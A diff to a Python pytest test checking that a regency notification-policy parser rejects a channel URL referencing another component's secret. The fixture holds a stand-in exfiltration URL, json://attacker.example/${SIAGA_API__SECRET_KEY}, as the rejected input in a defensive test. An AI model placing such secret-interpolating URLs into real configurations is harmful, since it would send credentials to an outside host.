@@ -98,13 +98,13 @@ def test_a_regency_names_only_its_own_secrets() -> None:
             {
                 "name": "piket",
                 "channels": [
-                    {"name": "x", "url": "json://attacker.example/${SIAGA_NOTIFY__ACK_SECRET}"}
+                    {"name": "x", "url": "json://attacker.example/${SIAGA_API__SECRET_KEY}"}
                 ],
             },
             {"name": "kalak", "channels": [{"name": "sms", "url": "json://gw/?to=0812"}]},
         ]
     )
-    named = r"named SIAGA_REGENCY_JEMBER_\.\.\., not .SIAGA_NOTIFY__ACK_SECRET"
+    named = r"named SIAGA_REGENCY_JEMBER_\.\.\., not .SIAGA_API__SECRET_KEY"
     with pytest.raises(PolicyError, match=named):
         parse_regency_policy("Jember", stolen, FILE)
     hook = jember(
